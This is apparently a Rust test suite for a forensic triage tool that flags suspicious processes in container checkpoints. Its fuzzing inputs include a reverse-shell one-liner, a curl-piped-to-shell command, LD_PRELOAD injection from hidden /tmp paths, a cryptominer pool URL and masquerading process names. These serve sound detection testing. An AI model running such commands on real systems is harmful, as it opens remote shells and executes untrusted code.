//! Triage: each rule on a checkpoint that it is for, and on an honest one that looks alike.

mod container;
mod document;
mod dump;
mod files;
mod hostile;
mod memory;
mod network;
mod planted;
mod processes;
mod real_files;
mod secrets;

use ckpt_analysis::triage::{Finding, Severity, TriageOptions, triage};
use ckpt_archive::{Evidence, Options};
use ckpt_model::Checkpoint;
use ckpt_synth::{Archive, Container, Dump, File, Task, Vma, stories};
use proptest::prelude::*;

/// When the container was made, and a moment later: seconds.
const CREATED: &str = "2026-11-23T01:41:56Z";
const MADE: u64 = 1_795_398_116;
const LATER: u64 = MADE + 60;
const BEFORE: u64 = MADE - 86_400;

fn open(archive: &Archive) -> Checkpoint {
    let evidence = Evidence::from_bytes("synthetic", archive.tar().into(), &Options::default());
    Checkpoint::options().open_evidence(evidence.expect("evidence")).expect("a checkpoint")
}

fn looked(archive: &Archive) -> Vec<Finding> {
    triage(&open(archive), &TriageOptions::default()).unwrap().findings
}

/// The findings in a checkpoint.
fn findings(checkpoint: &Checkpoint) -> Vec<Finding> {
    triage(checkpoint, &TriageOptions::default()).unwrap().findings
}

/// Pid 1, which does nothing but wait.
fn init() -> Task {
    Task::new(1, 0).exe("/usr/bin/tini").argv(&["tini", "--", "app"])
}

/// A container of these tasks beside pid 1.
fn dump(tasks: impl IntoIterator<Item = Task>) -> Dump {
    let mut dump = Dump::new();
    let container = Container::new("app").command(&["tini", "--", "app"]);
    dump.container(container.times(CREATED, "2026-11-23T02:00:00Z", LATER)).task(init());
    for task in tasks {
        dump.task(task);
    }
    dump
}

/// What is found in a container of these tasks beside pid 1.
fn found(tasks: impl IntoIterator<Item = Task>) -> Vec<Finding> {
    looked(&Archive::podman(&dump(tasks)))
}

/// What is found when the diff has these files, by path and second of their content.
fn found_with_diff(task: Task, files: &[(&str, u64)]) -> Vec<Finding> {
    let mut diff = Archive::new();
    for (path, mtime) in files {
        diff.push(ckpt_synth::Member::file(*path, b"\x7fELF and more").mode(0o755).mtime(*mtime));
    }
    let mut archive = Archive::podman(&dump([task]));
    archive.replace("rootfs-diff.tar", diff.tar());
    looked(&archive)
}

/// The finding of that id about a process.
fn one<'f>(findings: &'f [Finding], id: &str, pid: u32) -> &'f Finding {
    let mut of = findings
        .iter()
        .filter(|one| one.rule.id == id && one.pid.is_some_and(|known| known.0 == pid));
    let first = of.next().unwrap_or_else(|| panic!("no {id} of pid {pid}: {}", told(findings)));
    assert!(of.next().is_none(), "more than one {id} of pid {pid}: {}", told(findings));
    first
}

/// That there is none of that id.
fn none(findings: &[Finding], id: &str) {
    assert!(findings.iter().all(|one| one.rule.id != id), "{id}: {}", told(findings));
}

fn told(findings: &[Finding]) -> String {
    let lines =
        findings.iter().map(|one| format!("{} {}: {}", one.severity, one.rule.id, one.title));
    lines.collect::<Vec<_>>().join("\n")
}

/// The path of a finding.
fn path(finding: &Finding) -> &str {
    finding.path.as_ref().and_then(|path| path.utf8()).unwrap_or_default()
}

/// What every finding keeps to, whatever it is of.
fn sound(findings: &[Finding], name: &str) {
    let weights: Vec<_> = findings.iter().map(|one| std::cmp::Reverse(one.severity)).collect();
    assert!(weights.is_sorted(), "{name}: the most serious first");
    for finding in findings {
        let id = finding.rule.id;
        assert!(!finding.evidence.is_empty(), "{name}: {id} rests on nothing");
        let members = finding.evidence.iter().filter_map(|seen| seen.member.as_ref());
        let texts = finding.evidence.iter().map(|seen| &seen.what).chain(members);
        for text in texts.chain([&finding.title]) {
            let safe = text.chars().all(|c| !c.is_control() && c != '\u{202e}');
            assert!(safe, "{name}: {id}: {text:?}");
            assert!(text.len() < 4096, "{name}: {id} is long: {} bytes", text.len());
        }
    }
}

/// Whatever dialect, engine or damage: findings are sound, and the same with one thread and with many.
#[test]
fn every_story_is_looked_at() {
    let mut looked_at = 0;
    for (name, archive) in stories::all() {
        let tar = archive.tar().into();
        let Ok(evidence) = Evidence::from_bytes(name, tar, &Options::default()) else { continue };
        let Ok(checkpoint) = Checkpoint::options().open_evidence(evidence) else { continue };
        let findings = triage(&checkpoint, &TriageOptions::default()).unwrap().findings;
        let many = triage(&checkpoint, &TriageOptions::default().threads(4)).unwrap().findings;
        assert_eq!(findings, many, "{name}");
        sound(&findings, name);
        looked_at += 1;
    }
    assert!(looked_at > 40, "{looked_at} stories");
}

#[test]
fn an_honest_container_is_quiet() {
    let honest = found([
        Task::new(2, 1)
            .exe("/usr/sbin/nginx")
            .argv(&["nginx"])
            .title(b"nginx: master process nginx"),
        Task::new(3, 2).exe("/usr/sbin/nginx").argv(&["nginx"]).title(b"nginx: worker process"),
        Task::new(4, 1).exe("/usr/bin/python3.12").comm("gunicorn").argv(&[
            "/usr/bin/python3",
            "/usr/bin/gunicorn",
            "app:app",
        ]),
        Task::new(5, 1).exe("/bin/busybox").comm("sleep").argv(&["sleep", "60"]),
        Task::new(6, 1)
            .exe("/usr/bin/redis-check-rdb")
            .comm("redis-server")
            .argv(&["redis-server"]),
    ]);
    let loud = honest.iter().filter(|one| one.severity > Severity::Low && one.pid.is_some());
    assert_eq!(loud.count(), 0, "{}", told(&honest));
}

/// However long a command line or environment is, what is said of it is short.
#[test]
fn long_words_are_cut() {
    let long = "a".repeat(100_000);
    let preload = format!("LD_PRELOAD=/tmp/.x/{long}:{}", "/tmp/.y/l.so:".repeat(10_000));
    let findings = found([
        Task::new(2, 1).exe("/opt/.x/a").argv(&["[kworker/0:1]", &long]).env(&[preload]),
        Task::new(3, 1).exe("/usr/bin/perl").argv(&["/usr/sbin/sshd", &long]),
        Task::new(4, 1).exe("/bin/dash").argv(&["sh", "-c", &format!("{long}|curl x|sh")]),
    ]);
    sound(&findings, "long");
    assert!(findings.len() > 4, "{}", told(&findings));
}

/// Words that the rules look for, and words that break them.
fn word() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        prop::sample::select(vec![
            &b"sh"[..],
            b"-c",
            b"[kworker/0:1]",
            b"/bin/busybox",
            b"bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
            b"LD_PRELOAD=/tmp/.x/a.so:\xff\x1b[2J",
            b"JAVA_TOOL_OPTIONS=-javaagent:",
            b"NODE_OPTIONS=--require",
            b"LD_LIBRARY_PATH=:::/tmp/\x07",
            b"stratum+tcp://\x1b]0;x\x07:3333",
            b"\xe2\x80\xae[x]",
            b"",
            b"=",
            b"/",
            b".../.",
        ])
        .prop_map(<[u8]>::to_vec),
        prop::collection::vec(1_u8.., 0..40),
    ]
}

fn anything() -> impl Strategy<Value = Task> {
    let words = || prop::collection::vec(word(), 0..6);
    let mapping = (0_u64..8, 0_u32..8, prop::collection::vec(any::<u8>(), 0..64));
    let fd = (0_u32..4, 0_u32..6);
    (
        (2_u32..7, 0_u32..7),
        (word(), word(), words(), words()),
        prop::collection::vec(mapping, 0..3),
        prop::collection::vec(fd, 0..4),
    )
        .prop_map(|((pid, ppid), (exe, comm, argv, env), mappings, fds)| {
            let mut exe = exe;
            exe.retain(|byte| *byte != 0);
            let mut task = Task::new(pid, ppid)
                .exe([b"/", exe.as_slice()].concat())
                .comm(comm)
                .argv(&argv)
                .env(&env);
            for (number, (at, prot, bytes)) in mappings.into_iter().enumerate() {
                let start = 0x7100_0000_0000 + at * 0x10_0000 + number as u64 * 0x1000;
                task = task.map(Vma::anon(start, 0x1000).prot(prot)).pages(start, bytes);
            }
            for (fd, kind) in fds {
                let end = ([10, 0, 0, 1], 40_000);
                task = task.fd(
                    fd,
                    match kind {
                        0 => File::tcp_listen(500, ([0; 4], 80)),
                        1 => File::tcp(501, end, ([192, 0, 2, 1], 3333), "", ""),
                        2 => File::unix_pair(502, 503, vec![]),
                        3 => File::unix_pair(503, 502, vec![]),
                        4 => File::pipe_read(504, ""),
                        _ => File::path("/proc/3/mem"),
                    },
                );
            }
            task
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Nothing that processes can be called, told or made of breaks the looking or reaches a terminal.
    #[test]
    fn whatever_processes_are_like(tasks in prop::collection::vec(anything(), 0..5)) {
        let mut dump = Dump::new();
        dump.task(init());
        for task in tasks {
            dump.task(task);
        }
        let checkpoint = open(&Archive::crio(&dump));
        let findings = triage(&checkpoint, &TriageOptions::default()).unwrap().findings;
        let many = triage(&checkpoint, &TriageOptions::default().threads(3)).unwrap().findings;
        prop_assert_eq!(&findings, &many);
        sound(&findings, "whatever");
    }
}
